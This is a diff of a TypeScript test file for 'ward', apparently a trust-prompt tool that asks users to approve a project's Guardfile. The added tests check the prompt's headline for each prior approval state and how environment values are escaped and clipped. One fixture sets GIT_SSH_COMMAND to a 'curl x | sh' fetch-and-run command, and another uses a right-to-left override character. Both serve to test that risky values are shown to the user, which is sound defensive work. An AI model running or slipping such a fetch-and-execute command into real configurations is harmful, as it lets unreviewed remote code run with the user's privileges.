@@ -20,6 +20,8 @@ function view(source: string, over: Partial<QuestionView> = {}): QuestionView {
   return {
     guardfile: "/work/app/Guardfile",
     cwd: "/work/app",
+    before: "nothing",
+    values: new Map(),
     sites: sites(source),
     changes: null,
     pins: [],
@@ -60,6 +62,52 @@ test("T75: the whole question", () => {
     "      script /work/app/x sha256 ab",
     "All of it runs with your privileges and environment.",
     "The answer is kept in /home/kai/.config/ward/trust.json; ward asks again when any of this changes.",
+  ]);
+});
+
+const HEADS: readonly (readonly [QuestionView["before"], string])[] = [
+  ["nothing", "this project brings a Guardfile that you have not answered for yet:"],
+  ["changed", "this project's Guardfile, or what it runs, is not what you answered for before:"],
+  ["lapsed", "the rules for approvals got stricter since you approved this project's Guardfile:"],
+  ["approved", "this project's Guardfile is approved as it is:"],
+  ["declined", "you declined this project's Guardfile as it is, and can answer again:"],
+  ["ignored", "you set this project's Guardfile to be ignored, and can answer again:"],
+];
+
+test("T75: the first line says what was answered before", () => {
+  for (const [before, head] of HEADS) {
+    assert.equal(renderQuestion(view(SAMPLE, { before })).text.split("\n")[0], `ward: ${head}`);
+  }
+});
+
+const VALUED = `wrap ward app {
+  exec git { env GIT_SSH_COMMAND "sh -c 'curl x | sh'"; env LITERAL { value literal "a\\u{202e}b" }; env LONG "${"x".repeat(200)}" }
+  can run status
+}`;
+
+test("T75: a value that the file sets is part of what would run: shown, escaped and cut", () => {
+  const texts = ["sh -c 'curl x | sh'", "a\u202eb", "x".repeat(200)];
+  const values = new Map(texts.map((text) => [sha256(text), text]));
+  const { text, isClipped } = renderQuestion(view(VALUED, { values }));
+  assert.deepEqual(text.split("\n").slice(3, 6), [
+    `    ward.app: sets GIT_SSH_COMMAND to "sh -c 'curl x | sh'"`,
+    '    ward.app: sets LITERAL to "a\\u{202e}b"',
+    `    ward.app: sets LONG to "${"x".repeat(159)}…(+42)`,
+  ]);
+  assert.equal(isClipped, true);
+  assert.match(renderWholeQuestion(view(VALUED, { values })), /sets LONG to "x{200}"$/m);
+  assert.match(renderQuestion(view(VALUED)).text, /sets GIT_SSH_COMMAND \(a value in the file\)$/m);
+});
+
+test("T12: a variable that is gone may have held something back", () => {
+  const before = sites('wrap ward app { exec git { env A "1" }; can run tag }');
+  const source = "wrap ward app { exec git; can run tag }";
+  const now = sites(source);
+  const { text } = renderQuestion(view(source, { sites: now, changes: diffSurfaces(before, now) }));
+  assert.deepEqual(text.split("\n").slice(3, -2), [
+    '  ~ ward.app.tag: "git" "tag" …  (wider)',
+    "      - env A",
+    "  - ward.app: sets A (a value in the file)  (wider: it may have held something back)",
   ]);
 });
 
@@ -175,12 +223,15 @@ test("T21: a changed file is named", () => {
     realpath: "/work/app/git",
     sha256: "cd",
   };
-  const { text } = renderQuestion(view(SAMPLE, { changes: [], changedPins: [pin], pins: [pin] }));
+  const { text } = renderQuestion(
+    view(SAMPLE, { before: "changed", changes: [], changedPins: [pin, pin], pins: [pin] }),
+  );
   assert.match(
     text,
     /^ward: this project's Guardfile, or what it runs, is not what you answered for before:$/m,
   );
-  assert.match(text, /^ {2}! binary \/work\/app\/git sha256 cd is not the one that was approved$/m);
+  const lines = text.match(/^ {2}! .*$/gm);
+  assert.deepEqual(lines, ["  ! binary /work/app/git sha256 cd is not the one that was approved"]);
 });
 
 test("T108: the same surface elsewhere is told", () => {
